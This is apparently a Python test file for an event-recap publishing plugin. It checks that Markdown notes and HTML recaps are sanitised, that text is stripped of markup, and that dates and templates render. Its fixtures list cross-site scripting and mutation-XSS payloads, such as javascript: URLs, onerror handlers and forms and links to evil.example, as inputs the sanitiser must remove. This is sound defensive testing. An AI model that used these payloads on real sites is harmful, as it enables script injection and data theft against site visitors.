"""HTML that is safe to publish, and what templates get."""

import re
from datetime import UTC, date, datetime
from html import unescape
from types import SimpleNamespace

import nh3
import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from jinja2 import ChoiceLoader, DictLoader, Environment
from markupsafe import Markup

from event_recap.characters import fold_spaces
from event_recap.rendering import (
    AUTOESCAPE,
    format_iso,
    offer_templates,
    render_note,
    sanitize_body,
    strip_html,
)

ADDRESSES = ("href", "src", "cite", "poster", "srcset", "action", "formaction", "data", "background")
ANYTHING = st.text(alphabet="<>/=\"'& abijsxp:{|}%()[]*_#\n\0\u202e", max_size=60)

HTML_PIECES = st.sampled_from(
    [
        *(
            "a",
            "é ",
            "\n",
            "&amp;",
            "&lt;",
            "&nbsp;",
            "&copy;",
            "&#39;",
            "<",
            ">",
            '"',
            "<p>",
            "</p>",
            "<em>",
            "</em>",
        ),
        *(
            '<a href="x&amp;y">',
            "</a>",
            "<br>",
            "<br />",
            '<img alt="a" src="b">',
            '<img alt="a>b">',
            "<h2 id='a'>",
        ),
        *(
            '<h2 id="a">',
            "</h2>",
            "<ul>",
            "<li>",
            "</li>",
            "</ul>",
            "<table>",
            "<td>",
            "</table>",
            "<pre>",
            "</pre>",
        ),
        *(
            "<select>",
            "</select>",
            "<script>",
            "</script>",
            "<!-- x -->",
            '<div class="footnote">',
            "</div>",
            "<hr>",
        ),
    ]
)

HOSTILE = [
    "<script>alert(1)</script>",
    '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a><a href="data:text/html,x">x</a><a href="file:///etc/passwd">x</a>',
    '<img srcset="javascript:alert(1) 1x, a.jpg 2x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<q cite="javascript:alert(1)">x</q><blockquote cite="\x01JAVASCRIPT:alert(1)">x</blockquote>',
    '<video poster="javascript:alert(1)" src="ftp://x.example/"></video>',
    '<form action="https://evil.example/"><input name=a><button formaction="javascript:x">x</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/"</style>',
    '<p style="background: url(https://evil.example/pixel)">x</p>',
]  # fmt: skip


MUTATING = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--><img src=x onerror=alert(1)>-->",
]  # fmt: skip

FORBIDDEN = [
    "base",
    "button",
    "embed",
    "form",
    "iframe",
    "input",
    "link",
    "meta",
    "object",
    "script",
    "style",
    "svg",
]
SCHEME = re.compile(r"[\0-\x20]*([a-z][a-z0-9+.-]*):")


def find_faults(html):
    """Return what would run, frame, send, or lead somewhere else than a page may."""
    tree = BeautifulSoup(f"<div>{html}</div>", "html5lib").body
    faults = [tag.name for tag in tree(FORBIDDEN)]
    for tag in tree.find_all():
        for name, value in tag.attrs.items():
            if (
                name.startswith("on")
                or name in {"style", "srcdoc"}
                or (name in ADDRESSES and is_foreign(value))
            ):
                faults.append((tag.name, name, value))
    return faults


def is_foreign(address):
    """Tell whether a browser, which passes over tabs and line ends, finds another scheme in an address."""
    found = [SCHEME.match(re.sub(r"[\t\r\n]", "", part.lower())) for part in address.split(",")]
    return any(scheme and scheme[1] not in {"http", "https", "mailto"} for scheme in found)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("clean", [render_note, sanitize_body], ids=["note", "body"])
def test_nothing_that_an_author_pastes_runs_or_leads_astray(clean, text):
    """Scripts, handlers, frames, forms, styles and foreign schemes are gone, in notes and in recaps."""
    assert find_faults(text)
    assert find_faults(clean(text)) == []


@pytest.mark.parametrize("text", MUTATING)
@pytest.mark.parametrize("clean", [render_note, sanitize_body], ids=["note", "body"])
def test_what_browsers_read_otherwise_than_it_stands_does_not_run_either(clean, text):
    """Comments and foreign elements end where a browser thinks they do."""
    assert find_faults(clean(text)) == []


@pytest.mark.parametrize("clean", [render_note, sanitize_body], ids=["note", "body"])
def test_no_value_of_an_attribute_looks_like_a_tag(clean):
    """What is later done to a text, such as placing the cards, finds tags only where there are some."""
    html = clean('<abbr title="<p>[attendees]</p><pre onmouseover=alert(1)">x</abbr>')

    assert 'title="&lt;p&gt;[attendees]&lt;/p&gt;&lt;pre onmouseover=alert(1)"' in html


def test_note_of_lists_inside_lists_is_a_text():
    """Lists that nobody can have meant, hundreds deep, are shown as they were typed."""
    assert render_note("1. " * 2000) == "1. " * 2000


@given(ANYTHING)
def test_no_note_is_dangerous(text):
    """Whatever is typed into a list."""
    assert find_faults(render_note(text)) == []


@given(ANYTHING)
def test_no_recap_is_dangerous(html):
    """Whatever Markdown makes of a text."""
    assert find_faults(sanitize_body(html)) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", ""),
        ("A *warm* welcome", "<p>A <em>warm</em> welcome</p>"),
        ("Café & thé < eau", "<p>Café &amp; thé &lt; eau</p>"),
        ("Un\n\nDeux", "<p>Un</p>\n<p>Deux</p>"),
        ("- Un\n- Deux", "<ul>\n<li>Un</li>\n<li>Deux</li>\n</ul>"),
        (
            "[Lune](https://lune.example/)",
            '<p><a href="https://lune.example/" rel="nofollow noopener">Lune</a></p>',
        ),
        ("# Titre", "Titre"),
        ("![Une tasse](tasse.jpg)", "<p></p>"),
        ("{{ 7 * 7 }}", "<p>{{ 7 * 7 }}</p>"),
    ],
)
def test_a_note_is_a_little_markdown(text, expected):
    """Emphasis, lists and links; no headings and no pictures, which would burst a card."""
    note = render_note(text)

    assert note == expected
    assert isinstance(note, Markup)


@pytest.mark.parametrize("link", ["{static}/attendees/focus.yml", "|attach|../secret.yml", " {static}/x"])
def test_a_note_publishes_no_file(link):
    """Pelican copies what a text links to; a list is no place for that."""
    html = BeautifulSoup(render_note(f'<a href="{link}">x</a>'), "html5lib")

    assert "href" not in html.a.attrs


@pytest.mark.parametrize(
    "html",
    [
        '<p>Un <a href="{filename}/recaps/a.md#suite">lien</a> et <a href="|filename|b.md">un autre</a></p>',
        '<img alt="L\'été" src="{static}/images/a b.jpg" width="3" height="2" loading="lazy">',
        '<a href="mailto:anne@lune.example" title="x">x</a>',
        '<p id="suite" class="note" lang="en" dir="rtl">x</p>',
        '<blockquote cite="https://lune.example/a:b">x</blockquote>',
        '<img srcset="a.jpg 1x, https://lune.example/b.jpg 2x" src="a.jpg" alt="">',
        '<ol start="3" reversed=""><li>x</li></ol>',
        '<details open=""><summary>Plus</summary>x</details>',
        '<video controls="" src="{static}/a.mp4" poster="a.jpg"></video>',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
        "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>",
        "<pre><code>&lt;script&gt;</code></pre>",
        "<figure><figcaption>x</figcaption></figure>",
        '<time datetime="2010-02-02">mardi</time>',
    ],
)
def test_what_a_recap_is_made_of_stays_as_it_is(html):
    """Only what is dangerous is taken out."""
    before, after = (BeautifulSoup(text, "html5lib").body for text in (html, sanitize_body(html)))

    assert [(tag.name, tag.attrs) for tag in after.find_all()] == [
        (tag.name, tag.attrs) for tag in before.find_all()
    ]
    assert after.get_text() == before.get_text()


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("", ""),
        ("<p>Caf&eacute; &amp; <b>co</b></p>", "Café & co"),
        ("<p>L’<em>été</em>, dit-<b>il</b>.</p>", "L’été, dit-il."),
        ("<p>Un</p><p>Deux<br>Trois</p>", "Un Deux Trois"),
        ("<ul>\n<li>Un</li>\n<li>Deux</li>\n</ul>", "Un Deux"),
        ("<P>Un</P><DIV>Deux</DIV>", "Un Deux"),
        ('<p>Lune<sup id="fnref:1"><a href="#fn:1">1</a></sup>, dit-il</p>', "Lune, dit-il"),
        ("<p>x<sup>2</sup></p>", "x2"),
        ('<a title="a > b" href="x">Un</a>', "Un"),
        ("5 &lt; 6 &amp;amp; 7", "5 < 6 &amp; 7"),
        ("18&nbsp;h", "18\N{NO-BREAK SPACE}h"),
        ("Un<script>alert(1)</script> deux", "Un deux"),
    ],
)
def test_the_words_of_a_text_are_read_without_its_markup(html, expected):
    """On one line, each word whole, as summaries and machines want them."""
    assert strip_html(html) == expected


@given(st.lists(HTML_PIECES, max_size=15))
def test_words_are_those_that_a_parser_of_html_finds(pieces):
    """Also where no parser is asked: what most texts are made of reads the same without one."""
    html = "".join(pieces)
    parted = re.sub(r"<(?=/?(?:p|h2|li|ul|br|hr|div|table|pre|td)\b)", " <", html)
    words = unescape(nh3.clean(parted, tags=set(), clean_content_tags={"script", "select"}))

    assert strip_html(html) == fold_spaces(words)


@pytest.mark.parametrize(
    ("moment", "expected"),
    [
        (date(2010, 2, 2), "2010-02-02"),
        (datetime(2010, 2, 2, 18, 0, 30, 999, tzinfo=UTC), "2010-02-02T18:00:30+00:00"),
    ],
)
def test_machines_read_a_moment_to_the_second(moment, expected):
    """A date stays a date."""
    assert format_iso(moment) == expected


@pytest.mark.parametrize("is_ours", [True, False], ids=["our theme", "a foreign theme"])
def test_only_a_theme_that_counts_on_it_gets_autoescape(tmp_path, is_ours):
    """Pelican leaves it off, and foreign themes are written for that."""
    if is_ours:
        (tmp_path / AUTOESCAPE).touch()
    environment = Environment(loader=ChoiceLoader([]))

    offer_templates(environment, tmp_path, "https://example.org")

    assert environment.autoescape is is_ours


def test_templates_are_offered_after_those_of_the_theme(tmp_path):
    """A theme may bring its own; filters and words are there for all."""
    own = DictLoader({"event.html": "{{ day|date_text('fr') }}, {{ day|month_text('en') }}, {{ site_url }}"})
    environment = Environment(loader=ChoiceLoader([own]), autoescape=True)

    offer_templates(environment, tmp_path, "https://example.org")

    rendered = environment.get_template("event.html").render(day=date(2010, 2, 2))
    assert rendered == "2 février 2010, February 2010, https://example.org"
    assert environment.get_template("event_recap/attendees.html")
    words = environment.from_string("{{ translate('Press', lang) }} {{ day|date_iso }}")
    assert words.render(SimpleNamespace(lang="fr", day=date(2010, 2, 2)).__dict__) == "Presse 2010-02-02"


def test_a_note_that_cannot_be_read_does_no_harm_to_the_next(monkeypatch):
    """A note that goes too deep is shown as typed, and the one after it is a note."""

    def go_too_deep(*_):
        raise RecursionError

    with monkeypatch.context() as patch:
        patch.setattr("event_recap.rendering.Markdown.convert", go_too_deep)
        typed = render_note("A *deep* note")

    assert (typed, render_note("A *warm* note")) == ("A *deep* note", "<p>A <em>warm</em> note</p>")
